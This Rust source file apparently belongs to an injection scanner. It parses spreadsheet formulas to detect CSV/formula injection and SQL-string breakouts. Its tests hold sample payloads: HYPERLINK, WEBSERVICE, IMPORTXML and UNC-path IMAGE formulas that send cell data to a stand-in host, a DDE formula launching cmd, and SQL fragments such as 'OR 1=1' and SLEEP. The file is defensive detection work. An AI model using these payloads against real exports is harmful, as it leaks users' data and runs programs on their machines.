//! Formulas of spreadsheets: `=IF(A1="yes";B1;"-")`, `=SUMIFS(C:C,A:A,"x",B:B,">="&D1)`.
//!
//! Their strings stand in double quotes, and pasted into a string of a statement in double quotes a formula
//! ends it at the first of them. What follows is an error of syntax where that string is a word, for no
//! operator joins it with what stands before and behind it; so no further quote of the formula ends anything.
//!
//! A formula in a field where no formula belongs is computed by the program that opens the export: one that
//! loads an address tells another machine what is in the sheet.

/// Words that join what stands before and behind them in some dialect.
const JOINING: &[&[u8]] = words!("sqli", "joining-words");

/// The length of the longest formula that is read.
const FORMULA_BYTES_MAX: usize = 8_192;

/// Functions that load what an address names, or lead to it, each with its parenthesis.
pub(super) const LOADING: &[&[u8]] = words!("command", "formula-loads");
/// Functions that start a program, or load a library.
pub(super) const STARTING: &[&[u8]] = words!("command", "formula-starts");

/// True if all of `text` is a formula whose first string that has anything in it is a word.
pub(super) fn is_inert(text: &[u8]) -> bool {
    Formula::of(text, b"=").is_some_and(|formula| formula.first_string.is_some_and(is_word))
}

/// True if all of `text` is a formula that names a cell: no statement that takes it for an expression has a
/// column of that name, and databases look for all columns before they compute anything.
pub(super) fn names_cell(text: &[u8]) -> bool {
    Formula::of(text, b"=").is_some_and(|formula| formula.names_cell)
}

/// Where the double quotes stand in a formula with fields in place of cells, all of `text`, with or without
/// the sign before it: `CONCATENATE({First}," ",{Last})`. Nothing if `text` is something else.
pub(super) fn quotes_of_fields(text: &[u8]) -> Vec<usize> {
    match Formula::of(text, b"=").or_else(|| Formula::unsigned(text)) {
        Some(_) => memchr::memchr_iter(b'"', text).collect(),
        None => Vec::new(),
    }
}

/// Where the quotes stand in a formula that names a cell, all of `text`, if behind the first of either sort
/// stands a word that joins nothing: a string of a statement ends there with an error of syntax. Nothing if
/// `text` is something else.
pub(super) fn quotes_of_cells(text: &[u8]) -> Vec<usize> {
    let is_inert = |quote: u8| memchr::memchr(quote, text).is_none_or(|at| begins_with_word(&text[at + 1..]));
    match names_cell(text) && is_inert(b'\'') && is_inert(b'"') {
        true => memchr::memchr2_iter(b'\'', b'"', text).collect(),
        false => Vec::new(),
    }
}

/// What a formula does beyond its sheet.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Reach {
    /// It loads from another machine, or leads to it.
    Loads,
    /// It starts a program.
    Starts,
}

/// What the formula that all of `text` is does beyond its sheet. Spreadsheets take each of four signs for the
/// beginning of one.
pub(super) fn reach(text: &[u8]) -> Option<Reach> {
    let formula = Formula::of(text, b"=+-@")?;
    match formula {
        Formula { starts: true, first_string: Some(_), .. } => Some(Reach::Starts),
        Formula { loads: true, names_host: true, .. } => Some(Reach::Loads),
        _ => None,
    }
}

#[derive(Debug, Default)]
struct Formula<'t> {
    /// The first string that has anything in it.
    first_string: Option<&'t [u8]>,
    names_cell: bool,
    /// It calls a function that loads what an address names.
    loads: bool,
    /// It calls a function that starts a program.
    starts: bool,
    /// A string of it begins with the address of a machine.
    names_host: bool,
}

impl<'t> Formula<'t> {
    /// The formula that all of `text` is, which begins with one of `signs`.
    fn of(text: &'t [u8], signs: &[u8]) -> Option<Formula<'t>> {
        let (first, rest) = text.trim_ascii().split_first()?;
        if !signs.contains(first) || rest.len() >= FORMULA_BYTES_MAX {
            return None;
        }
        let mut formula = Formula::default();
        formula.read(rest).then_some(formula)
    }

    /// The formula that all of `text` is, without a sign before it.
    fn unsigned(text: &'t [u8]) -> Option<Formula<'t>> {
        let mut formula = Formula::default();
        let is_short = text.len() < FORMULA_BYTES_MAX;
        (is_short && formula.read(text)).then_some(formula)
    }
}

/// `A1`, `$B$22`, `AA10:AB20`, `Sheet!A1`, `A:D`
fn is_cell(name: &[u8]) -> bool {
    let name = &name[memchr::memchr(b'!', name).map_or(0, |at| at + 1)..];
    let name = name.strip_prefix(b"$").unwrap_or(name);
    let column = name.iter().take_while(|b| b.is_ascii_uppercase()).count();
    let is_column = |name: &[u8]| (1..=2).contains(&name.len()) && name.iter().all(u8::is_ascii_uppercase);
    if let Some(last) = name[column..].strip_prefix(b":") {
        return is_column(&name[..column]) && is_column(last.strip_prefix(b"$").unwrap_or(last));
    }
    let row = name[column..].strip_prefix(b"$").unwrap_or(&name[column..]);
    let digits = row.iter().take_while(|b| b.is_ascii_digit()).count();
    (1..=2).contains(&column) && (1..=6).contains(&digits) && matches!(row.get(digits), None | Some(b':'))
}

fn is_word(text: &[u8]) -> bool {
    let is_part = |b: &u8| b.is_ascii_alphanumeric() || !b.is_ascii();
    text.iter().all(is_part) && !JOINING.iter().any(|known| text.eq_ignore_ascii_case(known))
}

/// The text begins with a word that joins nothing in a statement.
fn begins_with_word(text: &[u8]) -> bool {
    let len = text.iter().take_while(|b| b.is_ascii_alphanumeric() || !b.is_ascii()).count();
    len > 0 && !text[0].is_ascii_digit() && text.get(len) != Some(&b'(') && is_word(&text[..len])
}

impl<'t> Formula<'t> {
    /// Reads operands and operators by turns, with calls, parentheses and arrays that are closed; false if
    /// `text` is something else.
    fn read(&mut self, text: &'t [u8]) -> bool {
        let (mut at, mut depth, mut has_operand) = (0, 0u32, false);
        while let Some(&b) = text.get(at) {
            match b {
                b' ' | b'\t' | b'\n' | b'\r' => {}
                // A field of a record: `{First name}`.
                b'{' if !has_operand && field(&text[at..]) > 0 => {
                    at += field(&text[at..]) - 1;
                    has_operand = true;
                }
                b'(' | b'{' if !has_operand => depth += 1,
                b')' | b'}' if depth > 0 => {
                    depth -= 1;
                    has_operand = true;
                }
                // An argument may be left out.
                b',' | b';' | b'\\' if depth > 0 => has_operand = false,
                b'+' | b'-' if !has_operand => {}
                b'%' if has_operand => {}
                b'+' | b'-' | b'*' | b'/' | b'^' | b'&' | b'=' | b'<' | b'>' if has_operand => {
                    let is_two =
                        matches!((b, text.get(at + 1)), (b'<', Some(b'>' | b'=')) | (b'>', Some(b'=')));
                    at += usize::from(is_two);
                    has_operand = false;
                }
                b'"' if !has_operand => {
                    let Some(len) = string(&text[at + 1..]) else { return false };
                    let inner = &text[at + 1..at + 1 + len];
                    if !inner.is_empty() && self.first_string.is_none() {
                        self.first_string = Some(inner);
                    }
                    self.names_host |= names_host(inner);
                    at += len + 1;
                    has_operand = true;
                }
                _ if !has_operand && (b.is_ascii_alphanumeric() || !b.is_ascii() || b"_$.".contains(&b)) => {
                    let is_part = |b: &u8| b.is_ascii_alphanumeric() || !b.is_ascii() || b"_$.!:".contains(b);
                    let len = text[at..].iter().take_while(|b| is_part(b)).count();
                    let name = &text[at..at + len];
                    at += len - 1;
                    has_operand = text.get(at + 1) != Some(&b'(');
                    self.names_cell |= has_operand && is_cell(name);
                    let is_one =
                        |known: &&[u8]| !has_operand && name.eq_ignore_ascii_case(&known[..known.len() - 1]);
                    self.loads |= LOADING.iter().any(is_one);
                    self.starts |= STARTING.iter().any(is_one);
                }
                _ => return false,
            }
            at += 1;
        }
        depth == 0 && has_operand
    }
}

/// The length of the name of a field in braces.
fn field(text: &[u8]) -> usize {
    let is_part = |b: &u8| b.is_ascii_alphanumeric() || !b.is_ascii() || b" _.-".contains(b);
    let len = text[1..].iter().take_while(|b| is_part(b)).count();
    let is_named = text[1..=len].iter().any(|b| b.is_ascii_alphabetic() || !b.is_ascii());
    if is_named && text.get(len + 1) == Some(&b'}') { len + 2 } else { 0 }
}

/// `https://a.example/?x=`, `//a.example`, `\\\\a\\b`
fn names_host(text: &[u8]) -> bool {
    let scheme = text.iter().take_while(|b| b.is_ascii_alphabetic()).count();
    let after = if scheme > 1 { text[scheme..].strip_prefix(b":") } else { Some(text) };
    after.is_some_and(|rest| rest.starts_with(b"//") || rest.starts_with(b"\\\\"))
}

/// The length of a string up to its quote; two of them stand for one.
fn string(text: &[u8]) -> Option<usize> {
    let mut at = 0;
    loop {
        at += memchr::memchr(b'"', text.get(at..)?)?;
        if text.get(at + 1) != Some(&b'"') {
            return Some(at);
        }
        at += 2;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas() {
        for text in [
            "=WENN(ODER(A1=\"ja\";B1=\"ja\");\"x\";\"--\")",
            "=SUMIFS(C:C,A:A,\"open\",B:B,\">=\"&D1)",
            "=IF(Sheet2!$A$1<>\"\",VLOOKUP(A1,\"yes\",-2%),)",
            "={1,2;\"a1\",3}*-2",
        ] {
            assert!(is_inert(text.as_bytes()), "{text}");
        }
        for text in [
            "=A1&\" or \"\"=\"",
            "=COUNTIF(A:A;\"=\"&B1)",
            "=IF(A1=\"or\";\"1\";\"1\")",
            "=IF(A1=\"yes\" or 1=1",
            "=\"a\" or \"b\"",
            "=\"a\" \"b\"",
            "=A1)",
            "=IF(A1=\"yes\"",
            "A1&\"yes\"",
            "=A1",
            "=\"a\"--\"b\"; drop",
        ] {
            assert!(!is_inert(text.as_bytes()), "{text}");
        }
        for text in ["=CONCAT(A1,\" \",$B$2)", "=SUM(Sheet2!A1:B7)*2", "=IF(AA10>1,\"or\",0)"] {
            assert!(names_cell(text.as_bytes()), "{text}");
        }
        for text in [
            "=CONCAT(a1,\" \",b)",
            "=SLEEP(5)",
            "=VERSION()",
            "=A1 OR 1=1",
            "A1",
            "=A1;SELECT 1",
            "=A1-- ",
            "=ABC1",
            "=A1()",
            "=CONCAT(A1",
        ] {
            assert!(!names_cell(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn formulas_that_reach_out() {
        for (text, wanted) in [
            ("=HYPERLINK(\"http://a.example/?d=\"&A1,\"x\")", Reach::Loads),
            ("+webservice(\"https://a.example/\")", Reach::Loads),
            ("@SUM(1)+IMPORTXML(CONCAT(\"//a.example/?\",B2),\"//a\")", Reach::Loads),
            ("=IF(A1=1,IMAGE(\"\\\\\\\\a.example\\\\x\"),0)", Reach::Loads),
            ("=DDE(\"cmd\";\"/C calc\";\"x\")", Reach::Starts),
        ] {
            assert_eq!(reach(text.as_bytes()), Some(wanted), "{text}");
        }
        for text in [
            "=HYPERLINK(\"#Sheet2!A1\",\"x\")",
            "=IMAGE(A1)",
            "=LEFT(\"https://a.example/\",5)",
            "=DDE()",
            "HYPERLINK(\"http://a.example/\",\"x\")",
            "=HYPERLINK(\"http://a.example/\"",
        ] {
            assert_eq!(reach(text.as_bytes()), None, "{text}");
        }
    }
}
